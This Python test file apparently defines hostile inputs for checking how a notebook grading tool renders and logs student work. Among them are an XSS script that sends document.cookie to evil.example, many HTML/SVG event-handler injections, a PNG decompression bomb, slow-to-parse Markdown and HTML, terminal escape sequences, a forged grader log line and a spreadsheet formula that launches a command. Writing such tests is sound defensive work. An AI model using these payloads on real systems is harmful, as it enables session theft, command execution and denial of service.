"""What others look at: HTML and JavaScript in outputs, text, names and errors; terminals, logs, tables."""

import base64
import struct
import zlib

from nbformat import NotebookNode
from nbformat.v4 import new_markdown_cell

from tests.hostile.attack import Attack

SCRIPT = "<script>document.title='owned'; alert(1); fetch('https://evil.example/?' + document.cookie)</script>"
MARKUP = (
    SCRIPT
    + "<img src=x onerror=alert(2)><img src=https://evil.example/p.png><svg onload=alert(3)><a href='javascript:alert(4)'>x</a>"
    + "<iframe src=https://evil.example></iframe><object data=x></object><embed src=x><form action=https://evil.example><input autofocus onfocus=alert(5)></form>"
    + "<style>@import 'https://evil.example/x.css'; body{display:none}</style><link rel=stylesheet href=https://evil.example><base href=https://evil.example/>"
    + "<meta http-equiv=refresh content='0;url=https://evil.example'><math><mtext><table><mglyph><style><img src=x onerror=alert(6)>"
    + "<div style='background:url(https://evil.example/b.png);position:fixed;inset:0'>x</div><details ontoggle=alert(7) open>x</details></pre></main></body></html>"
)


def png(width: int, height: int) -> str:
    """A picture of one colour: a few kilobytes, and gigabytes once it is unpacked."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    row = b"\0" + bytes((width + 7) // 8)
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return base64.b64encode(
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", packed) + chunk(b"IEND", b"")
    ).decode()


def markup_in_markdown(notebook: NotebookNode) -> None:
    notebook.cells.insert(
        0, new_markdown_cell(f"# {MARKUP}\n\n[x](javascript:alert(1)) ![y](https://evil.example/y.png) <{SCRIPT}>")
    )


def slow_markdown(notebook: NotebookNode) -> None:
    """Text on which a careless reader of Markdown takes hours."""
    for text in (
        "[" * 150_000,
        "*a **a " * 20_000,
        "`" * 150_000,
        "> " * 20_000 + "x",
        "|a" * 20_000 + "\n" + "|-" * 20_000,
        "<" * 150_000,
        "![" * 60_000,
        "a\n\n    " * 10_000,
    ):
        notebook.cells.insert(0, new_markdown_cell(text))


ATTACKS = [
    Attack(
        "markup in outputs",
        "HTML, SVG, JavaScript, Markdown and widgets that act, in every kind of output.",
        cell=f"""
evil = {MARKUP!r}
print(evil)
for kind in ("text/html", "text/markdown", "text/latex", "image/svg+xml", "application/javascript", "application/vnd.jupyter.widget-view+json",
             "text/plain", "application/pdf", "image/png", "text/html+x", "application/json"):
    display({{kind: evil, "text/plain": evil}}, raw=True)
from IPython.display import HTML, Javascript, SVG, IFrame, Markdown
display(HTML(evil), Markdown(evil), Javascript("alert(8)"))
HTML(evil)
""",
    ),
    Attack(
        "markup in an answer",
        "Markup in the answer's source, its output and its errors.",
        answers={
            "01-parallel-block": f"""
evil = {MARKUP!r}
print(evil)
display({{"text/html": evil, "text/plain": evil, "image/png": '" onerror="alert(9)'}}, raw=True)
class ParallelBlock(nn.Block):
    def __init__(self, *args, **kwargs):
        raise type(evil, (ValueError,), {{}})(evil)  # {MARKUP}
"""
        },
    ),
    Attack(
        "markup in names",
        "The class of an error, a block, and what an answer gives back are named by markup.",
        answers={
            "01-list-is-not-a-block": f"""
evil = {MARKUP!r}
class MLP(nn.Block):
    def __init__(self, *args, **kwargs):
        super().__init__()
    def forward(self, x): return evil
    def __repr__(self): return evil
MLP.__name__ = MLP.__qualname__ = evil
""",
            "01-control-flow-predict-dynamic": f"def f():\n    return {MARKUP!r}\n",
        },
    ),
    Attack(
        "markup in Markdown",
        "Markdown cells with markup, links that act and pictures from elsewhere.",
        tamper=markup_in_markdown,
    ),
    Attack(
        "markup in an unread error",
        "A cell of no exercise ends in an error made of markup.",
        cell=f"raise type({SCRIPT!r}, (Exception,), {{}})({MARKUP!r})",
    ),
    Attack(
        "terminal commands",
        "Escape sequences in prints, names and errors: clear the screen, set the title, paste, turn text around.",
        answers={
            "01-parallel-block": """
class ParallelBlock(nn.Block):
    def __init__(self, *args, **kwargs):
        raise ValueError("\\x1b[2J\\x1b]0;owned\\x07\\x1b]52;c;b3duZWQ=\\x07\\u202e\\u2066 72 of 72 \\x9b31m\\r")
"""
        },
        cell="print('\\x1b[2J\\x1b]0;owned\\x07\\x9b2J \\u202e')",
    ),
    Attack(
        "a line in the log",
        "An error's text goes on in a line that looks like the grader's own.",
        answers={
            "01-parallel-block": """
class ParallelBlock(nn.Block):
    def __init__(self, *args, **kwargs):
        raise ValueError("x\\n2026-01-01T00:00:00+00:00 graded in 0.01 s: all right")
"""
        },
    ),
    Attack(
        "a formula in the table",
        "Errors begin as a spreadsheet's formulas do.",
        answers={
            "01-parallel-block": """
class ParallelBlock(nn.Block):
    def __init__(self, *args, **kwargs):
        raise ValueError("=cmd|'/C calc'!A0")
"""
        },
    ),
    Attack(
        "a picture of a gigabyte",
        "A PNG of a few kilobytes and 10,000 by 10,000 points.",
        cell=f"""
display({{"image/png": {png(10_000, 10_000)!r}, "text/plain": "a picture"}}, raw=True)
display({{"image/gif": "R0lGODlh//////AAACwAAAAA/////wAAAg==", "text/plain": "another"}}, raw=True)
""",
    ),
    Attack(
        "HTML that is slow to clean",
        "HTML nested thousands deep, and made of what looks like tags for long.",
        cell="""
for evil in ("<div>" * 50_000, "<b><i>" * 40_000, "<" * 290_000, "<table>" * 30_000, "<a <" * 60_000, "&" * 280_000, "<p style='" * 20_000, "<style" * 40_000, "</p>" * 60_000, "<!--" * 60_000):
    display({"text/html": evil, "text/plain": "x"}, raw=True)
""",
    ),
    Attack(
        "Markdown that is slow to read", "Markdown cells on which careless readers take hours.", tamper=slow_markdown
    ),
    Attack(
        "text that cannot be stored",
        "Half surrogate pairs, NUL, and text that changes direction.",
        cell="print('\\ud800 \\x00 \\udfff \\u202e')\nraise ValueError('\\ud800\\x00')",
    ),
]
